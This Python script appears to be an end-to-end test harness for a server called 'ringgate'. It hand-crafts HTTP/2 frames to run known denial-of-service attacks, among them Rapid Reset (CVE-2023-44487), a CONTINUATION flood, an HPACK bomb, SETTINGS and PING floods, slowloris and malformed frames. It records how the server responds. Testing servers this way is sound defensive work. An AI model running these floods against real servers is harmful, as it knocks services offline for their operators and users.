#!/usr/bin/env python3
"""Known HTTP/2 attacks, one connection each, for ringgate's end-to-end tests.

    attacks.py ATTACK HOST PORT [key=value ...]

Speaks h2c with prior knowledge (the preface and SETTINGS are sent by hand)
and builds every frame itself with `struct` (and header blocks with a small
HPACK encoder below), so that it can send what a conforming library refuses
to. Responses are decoded with `hpack` (a dependency of `h2`).

Prints one JSON object on stdout describing what the server did: the frames
received by type, the GOAWAY (error code, last stream id, after how many
frames sent and how many seconds), the RST_STREAMs by error code, response
statuses, whether and when the socket was closed (EOF or reset), and how much
was sent. Everything is bounded: a hard SIGALRM (`alarm=`, default 60 s,
which prints what was seen so far and exits 3), socket time-outs, and a cap
on the frames of every loop.

Attacks: rapid_reset, continuation_flood, hpack_bomb, settings_flood,
ping_flood, stalled_stream, slowloris, too_many_streams, data_on_stream_0,
oversized_frame, headers_on_even_stream, bad_preface, preface_without_settings,
window_overflow, and
`get` (one well-behaved request, for checking the script itself).
"""

import json
import os
import select
import signal
import socket
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY",
               "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8

ERROR_NAMES = {
    0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
    0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xa: "CONNECT_ERROR", 0xb: "ENHANCE_YOUR_CALM",
    0xc: "INADEQUATE_SECURITY", 0xd: "HTTP_1_1_REQUIRED",
}
SETTING_NAMES = {1: "HEADER_TABLE_SIZE", 2: "ENABLE_PUSH", 3: "MAX_CONCURRENT_STREAMS",
                 4: "INITIAL_WINDOW_SIZE", 5: "MAX_FRAME_SIZE", 6: "MAX_HEADER_LIST_SIZE"}
CANCEL = 0x8


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def settings_frame(pairs=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


# --- a minimal HPACK encoder (RFC 7541), enough to build any block by hand ---

def hint(value, prefix_bits, first):
    """An integer with an N-bit prefix; `first` holds the pattern bits."""
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hstr(s):
    return hint(len(s), 7, 0x00) + s  # no Huffman


def indexed(i):
    return hint(i, 7, 0x80)


def literal(name, value):
    """Literal header field without indexing, new name."""
    return b"\x00" + hstr(name) + hstr(value)


def literal_indexed_name(index, value):
    """Literal header field without indexing, name from the table."""
    return hint(index, 4, 0x00) + hstr(value)


def literal_incremental(name, value):
    """Literal header field with incremental indexing, new name: enters the dynamic table."""
    return b"\x40" + hstr(name) + hstr(value)


def request_block(path, authority=b"test.local"):
    """GET `path` over http: :method GET (2), :scheme http (6), :path, :authority."""
    if isinstance(path, str):
        path = path.encode()
    return indexed(2) + indexed(6) + literal_indexed_name(4, path) + literal_indexed_name(1, authority)


# --- the connection ---

class Conn:
    def __init__(self, host, port, timeout=5.0, rcvbuf=None):
        self.t0 = time.monotonic()
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.settimeout(timeout)
        s.connect((host, port))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = s
        self.buf = b""
        self.lock = threading.Lock()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.header_acc = {}  # stream -> partial header block
        self.frames_sent = 0
        self.sending = 0  # frames of the write under way
        self.bytes_sent = 0
        self.send_error = None
        self.send_error_after_frames = None
        self.counts = {}
        self.goaway = None
        self.rst = {}
        self.rst_first = []
        self.rst_streams = {}
        self.statuses = {}
        self.data_bytes = {}
        self.server_settings = None
        self.settings_acks = 0
        self.ping_acks = 0
        self.closed = False
        self.closed_by = None
        self.closed_at = None
        self.raw_head = b""
        self.decode_errors = []
        self.stop = False
        self.reader = None
        self.ack_pings = False  # answer the server's PINGs (from the reading thread)

    def now(self):
        return round(time.monotonic() - self.t0, 3)

    # sending

    def send(self, data, frames=1):
        """Writes whole frames; False once the connection is unusable."""
        if self.send_error:
            return False
        self.sending = frames
        try:
            self.sock.sendall(data)
        except (OSError, socket.timeout) as e:
            self.send_error = f"{type(e).__name__}: {e}"
            self.send_error_after_frames = self.frames_sent
            self.sending = 0
            return False
        self.sending = 0
        self.frames_sent += frames
        self.bytes_sent += len(data)
        return True

    # receiving

    def feed(self, data):
        if len(self.raw_head) < 256:
            self.raw_head += data[: 256 - len(self.raw_head)]
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                break
            ftype, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            self.on_frame(ftype, flags, stream, payload)

    def on_frame(self, ftype, flags, stream, payload):
        name = FRAME_NAMES[ftype] if ftype < len(FRAME_NAMES) else f"UNKNOWN_{ftype}"
        self.counts[name] = self.counts.get(name, 0) + 1
        if ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            elif self.server_settings is None:
                self.server_settings = {}
                for i in range(0, len(payload) - 5, 6):
                    k, v = struct.unpack(">HI", payload[i:i + 6])
                    self.server_settings[SETTING_NAMES.get(k, str(k))] = v
        elif ftype == PING and flags & ACK:
            self.ping_acks += 1
        elif ftype == PING and self.ack_pings:
            self.send(frame(PING, ACK, 0, payload), frames=0)
        elif ftype == GOAWAY and self.goaway is None and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = {
                "code": code, "code_name": ERROR_NAMES.get(code, hex(code)), "last_stream": last & 0x7FFFFFFF,
                "debug": payload[8:200].decode("latin-1"), "at": self.now(),
                # at most this many (the write under way included)
                "after_frames_sent": self.frames_sent + self.sending,
            }
        elif ftype == RST_STREAM and len(payload) >= 4:
            code = struct.unpack(">I", payload[:4])[0]
            cname = ERROR_NAMES.get(code, hex(code))
            self.rst[cname] = self.rst.get(cname, 0) + 1
            self.rst_streams[stream] = cname
            if len(self.rst_first) < 5:
                self.rst_first.append({"stream": stream, "code": cname, "at": self.now(),
                                       "after_frames_sent": self.frames_sent + self.sending})
        elif ftype == DATA:
            self.data_bytes[stream] = self.data_bytes.get(stream, 0) + len(payload)
        elif ftype in (HEADERS, CONTINUATION):
            block = payload
            if ftype == HEADERS:
                if flags & PADDED:
                    pad = block[0]
                    block = block[1:len(block) - pad]
                if flags & 0x20:
                    block = block[5:]
                self.header_acc[stream] = block
            else:
                self.header_acc[stream] = self.header_acc.get(stream, b"") + block
            if flags & END_HEADERS:
                try:
                    fields = self.decoder.decode(self.header_acc.pop(stream, b""), raw=True)
                    for k, v in fields:
                        if k == b":status" and stream not in self.statuses:
                            self.statuses[stream] = int(v)
                except Exception as e:  # recorded, not fatal
                    self.decode_errors.append(f"{type(e).__name__}: {e}")

    def read_once(self):
        """One recv; False when the connection is finished (EOF or error)."""
        try:
            ready, _, _ = select.select([self.sock], [], [], 0.2)
            if not ready:
                return True
            data = self.sock.recv(65536)
        except socket.timeout:
            return True
        except OSError as e:
            self.mark_closed(f"{type(e).__name__}: {e}")
            return False
        if not data:
            self.mark_closed("eof")
            return False
        self.feed(data)
        return True

    def mark_closed(self, how):
        if not self.closed:
            self.closed, self.closed_by, self.closed_at = True, how, self.now()

    def read_until(self, cond, timeout):
        """Reads (in this thread) until cond() or the connection closes or timeout."""
        deadline = time.monotonic() + timeout
        while not cond() and not self.closed and time.monotonic() < deadline:
            self.read_once()
        return cond()

    def start_reader(self):
        def run():
            while not self.stop and not self.closed:
                self.read_once()
        self.reader = threading.Thread(target=run, daemon=True)
        self.reader.start()

    def stop_reader(self):
        self.stop = True
        if self.reader:
            self.reader.join(2)
            self.reader = None
        self.stop = False

    def wait(self, cond, timeout):
        """With the reader running: waits until cond() or timeout."""
        deadline = time.monotonic() + timeout
        while not cond() and time.monotonic() < deadline:
            time.sleep(0.01)
        return cond()

    def cut_off(self):
        return self.goaway is not None or self.closed

    def handshake(self, settings=()):
        """Preface + our SETTINGS, then the server's SETTINGS (ACKed)."""
        self.send(PREFACE + settings_frame(settings))
        self.read_until(lambda: self.server_settings is not None, 5)
        if self.server_settings is not None:
            self.send(settings_frame(ack=True))
        self.frames_sent = 0  # count the attack's frames only
        self.bytes_sent = 0
        return self.server_settings is not None

    def wait_close(self, timeout):
        """After the attack: reads until the server closes (bounded)."""
        if self.reader:
            self.wait(lambda: self.closed, timeout)
            self.stop_reader()
        else:
            self.read_until(lambda: self.closed, timeout)

    def result(self, **extra):
        r = {
            "sent": {"frames": self.frames_sent, "bytes": self.bytes_sent},
            "send_error": self.send_error, "send_error_after_frames": self.send_error_after_frames,
            "server_settings": self.server_settings,
            "received": self.counts, "goaway": self.goaway, "rst": self.rst, "rst_first": self.rst_first,
            "statuses": {str(k): v for k, v in sorted(self.statuses.items())[:20]},
            "status_counts": {}, "data_bytes": {str(k): v for k, v in sorted(self.data_bytes.items())[:20]},
            "settings_acks": self.settings_acks, "ping_acks": self.ping_acks,
            "closed": self.closed, "closed_by": self.closed_by, "closed_at": self.closed_at,
            "decode_errors": self.decode_errors[:3], "elapsed": self.now(),
        }
        for v in self.statuses.values():
            r["status_counts"][str(v)] = r["status_counts"].get(str(v), 0) + 1
        r.update(extra)
        return r


# --- the attacks; each returns the result dict ---

CURRENT = {"conn": None, "attack": None}


def connect(args, **kw):
    c = Conn(args["host"], args["port"], timeout=float(args.get("timeout", 5)), **kw)
    CURRENT["conn"] = c
    return c


def get(args):
    c = connect(args)
    c.handshake()
    c.start_reader()
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(args.get("path", "/"))))
    c.wait(lambda: c.cut_off() or 1 in c.rst_streams or (1 in c.statuses and c.counts.get("DATA", 0) > 0), 10)
    c.stop_reader()
    return c.result()


def rapid_reset(args):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), on ever new streams."""
    n, batch = int(args.get("n", 10000)), int(args.get("batch", 20))
    c = connect(args)
    c.handshake()
    c.start_reader()
    block = request_block(args.get("path", "/rapid"))
    pairs, sid, out = 0, 1, []
    while pairs < n and not c.cut_off():
        out.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, block) + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
        sid += 2
        pairs += 1
        if len(out) >= batch or pairs == n:
            if not c.send(b"".join(out), frames=2 * len(out)):
                break
            out = []
    pairs_when_cut = pairs
    c.wait_close(float(args.get("close_wait", 10)))
    return c.result(pairs_sent=pairs_when_cut, pairs_planned=n)


def continuation_flood(args):
    """HEADERS without END_HEADERS, then CONTINUATION frames without end."""
    max_frames = int(args.get("max_frames", 100000))
    max_bytes = int(args.get("max_bytes", 30 * 1024 * 1024))
    empty = args.get("empty", "0") == "1"
    batch = int(args.get("batch", 100))
    c = connect(args)
    c.handshake()
    c.start_reader()
    c.send(frame(HEADERS, END_STREAM, 1, request_block(args.get("path", "/continuation"))))
    n, out = 0, []
    while n < max_frames and c.bytes_sent < max_bytes and not c.cut_off():
        payload = b"" if empty else literal(b"x-flood-%d" % (n % 1000), b"v" * 32)
        out.append(frame(CONTINUATION, 0, 1, payload))
        n += 1
        if len(out) >= batch:
            if not c.send(b"".join(out), frames=len(out)):
                break
            out = []
    if out and not c.cut_off():
        c.send(b"".join(out), frames=len(out))
    frames_when_cut = c.frames_sent
    c.wait_close(float(args.get("close_wait", 10)))
    return c.result(continuation_frames_sent=frames_when_cut, continuation_bytes_sent=c.bytes_sent,
                    planned_frames=max_frames, empty=empty)


def hpack_bomb(args):
    """One header block: a ~4 KB value enters the dynamic table, then is
    referenced (one byte each) thousands of times."""
    refs = int(args.get("refs", 16000))
    c = connect(args)
    c.handshake()
    table = (c.server_settings or {}).get("HEADER_TABLE_SIZE", 4096)
    max_frame = (c.server_settings or {}).get("MAX_FRAME_SIZE", 16384)
    name = b"x-bomb"
    value_len = max(1, min(4000, table - 32 - len(name)))
    block = request_block(args.get("path", "/bomb")) + literal_incremental(name, b"b" * value_len) + indexed(62) * refs
    decoded = refs * (len(name) + value_len)
    c.start_reader()
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)]
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        flags = (END_HEADERS if last else 0) | (END_STREAM if i == 0 else 0)
        if not c.send(frame(HEADERS if i == 0 else CONTINUATION, flags, 1, chunk)):
            break
    c.wait(lambda: c.cut_off() or 1 in c.rst_streams or 1 in c.statuses, float(args.get("answer_wait", 10)))
    after = None
    if not c.cut_off():
        # The stream was answered or reset: is the connection still usable?
        # (Its HPACK state must have survived the bomb.)
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, request_block("/after-bomb")))
        c.wait(lambda: c.cut_off() or 3 in c.rst_streams or 3 in c.statuses, 5)
        after = c.statuses.get(3) or c.rst_streams.get(3)
    c.stop_reader()
    if c.goaway is not None:
        c.wait_close(float(args.get("close_wait", 10)))
    return c.result(table_size=table, value_len=value_len, refs=refs, block_bytes=len(block),
                    decoded_bytes=decoded, after_request=after)


def settings_flood(args):
    """Thousands of SETTINGS frames, each of which needs an ACK."""
    n, batch = int(args.get("n", 10000)), int(args.get("batch", 50))
    c = connect(args)
    c.handshake()
    c.start_reader()
    one = settings_frame([(2, 0)])  # ENABLE_PUSH = 0, harmless
    sent = 0
    while sent < n and not c.cut_off():
        k = min(batch, n - sent)
        if not c.send(one * k, frames=k):
            break
        sent += k
    frames_when_cut = sent
    c.wait_close(float(args.get("close_wait", 10)))
    return c.result(settings_sent=frames_when_cut, planned=n)


def ping_flood(args):
    """PINGs as fast as the socket takes them, never reading the ACKs until
    the flood is over (or the server stops reading)."""
    n, batch = int(args.get("n", 100000)), int(args.get("batch", 500))
    c = connect(args, rcvbuf=int(args.get("rcvbuf", 8192)))
    c.handshake()
    c.sock.settimeout(float(args.get("send_timeout", 3)))
    sent, blocked = 0, False
    pings = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(batch))
    while sent < n:
        k = min(batch, n - sent)
        if not c.send(pings[: 17 * k], frames=k):
            blocked = "timed out" in (c.send_error or "")
            break
        sent += k
    # Now read: the ACKs that were queued, and the GOAWAY if any.
    c.read_until(lambda: c.closed, float(args.get("close_wait", 15)))
    return c.result(pings_sent=sent, planned=n, send_blocked=blocked)


def stalled_stream(args):
    """INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE: the response cannot move."""
    c = connect(args)
    c.handshake(settings=[(4, 0)])
    c.start_reader()
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(args.get("path", "/bytes?n=1048576"))))
    c.wait(lambda: c.cut_off() or 1 in c.rst_streams, float(args.get("wait", 15)))
    rst_at = c.rst_first[0]["at"] if c.rst_first else None
    if c.goaway is not None:
        c.wait_close(float(args.get("close_wait", 10)))
    c.stop_reader()
    return c.result(stream_reset_at=rst_at)


def slowloris(args):
    """The preface and SETTINGS (and the ACK of the server's), then nothing."""
    c = connect(args)
    c.ack_pings = args.get("ack_pings", "0") == "1"
    c.handshake()
    c.read_until(lambda: c.closed, float(args.get("wait", 15)))
    return c.result(ack_pings=c.ack_pings)


def too_many_streams(args):
    """Fills max_concurrent_streams with slow requests, opens one more (it
    must be refused), then keeps opening refused streams."""
    c = connect(args)
    c.handshake()
    c.start_reader()
    limit = int(args.get("open", (c.server_settings or {}).get("MAX_CONCURRENT_STREAMS", 10)))
    extra = int(args.get("extra", 1000))
    block = request_block(args.get("path", "/slow?ms=8000"))
    sid = 1
    for _ in range(limit):
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
        sid += 2
    first_extra = sid
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
    sid += 2
    c.wait(lambda: c.cut_off() or first_extra in c.rst_streams, 5)
    first_extra_answer = c.rst_streams.get(first_extra) or c.statuses.get(first_extra)
    refused_opened = 1
    while refused_opened < 1 + extra and not c.cut_off():
        out = []
        for _ in range(min(10, 1 + extra - refused_opened)):
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
            sid += 2
        if not c.send(b"".join(out), frames=len(out)):
            break
        refused_opened += len(out)
    opened_when_cut = refused_opened
    c.wait_close(float(args.get("close_wait", 15)))
    return c.result(limit_used=limit, first_extra_stream=first_extra, first_extra_answer=first_extra_answer,
                    extra_streams_opened=opened_when_cut, in_limit_statuses={
                        str(s): c.statuses.get(s) for s in range(1, 2 * limit, 2)})


def one_bad_frame(bad):
    def attack(args):
        c = connect(args)
        c.handshake()
        c.start_reader()
        ms = (c.server_settings or {}).get("MAX_FRAME_SIZE", 16384)
        c.send(bad(ms))
        c.wait(lambda: c.cut_off(), float(args.get("wait", 10)))
        c.wait_close(float(args.get("close_wait", 10)))
        return c.result(max_frame_size=ms)
    return attack


def oversized_headers(ms):
    # A field block (connection-level state) larger than SETTINGS_MAX_FRAME_SIZE.
    block = request_block("/oversized") + literal(b"x-pad", b"p" * (ms + 64))
    return frame(HEADERS, END_HEADERS | END_STREAM, 1, block)


def bad_preface(args):
    c = connect(args)
    c.send(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + settings_frame())
    c.read_until(lambda: c.closed, float(args.get("wait", 10)))
    return c.result(raw_received=c.raw_head.decode("latin-1"))


def preface_without_settings(args):
    """The right preface, then a PING where SETTINGS must come (RFC 9113 section 3.4)."""
    c = connect(args)
    c.send(PREFACE + frame(PING, 0, 0, b"\0" * 8))
    c.read_until(lambda: c.closed, float(args.get("wait", 10)))
    return c.result()


ATTACKS = {
    "get": get,
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "stalled_stream": stalled_stream,
    "slowloris": slowloris,
    "too_many_streams": too_many_streams,
    "data_on_stream_0": one_bad_frame(lambda ms: frame(DATA, 0, 0, b"x")),
    "oversized_frame": one_bad_frame(oversized_headers),
    "headers_on_even_stream": one_bad_frame(lambda ms: frame(HEADERS, END_HEADERS | END_STREAM, 2, request_block("/even"))),
    "window_overflow": one_bad_frame(lambda ms: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF))),
    "bad_preface": bad_preface,
    "preface_without_settings": preface_without_settings,
}


def emit(result):
    sys.stdout.write(json.dumps(result) + "\n")
    sys.stdout.flush()


def main():
    if len(sys.argv) < 4 or sys.argv[1] not in ATTACKS:
        sys.stderr.write(__doc__)
        sys.exit(2)
    name, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    args = dict(a.split("=", 1) for a in sys.argv[4:])
    args.update(host=host, port=port)
    CURRENT["attack"] = name

    def on_alarm(signum, frm):
        c = CURRENT["conn"]
        r = c.result() if c else {}
        r.update(attack=name, alarm=True)
        emit(r)
        os._exit(3)

    signal.signal(signal.SIGALRM, on_alarm)
    signal.alarm(int(args.get("alarm", 60)))
    result = ATTACKS[name](args)
    result.update(attack=name, alarm=False)
    signal.alarm(0)
    emit(result)


if __name__ == "__main__":
    main()
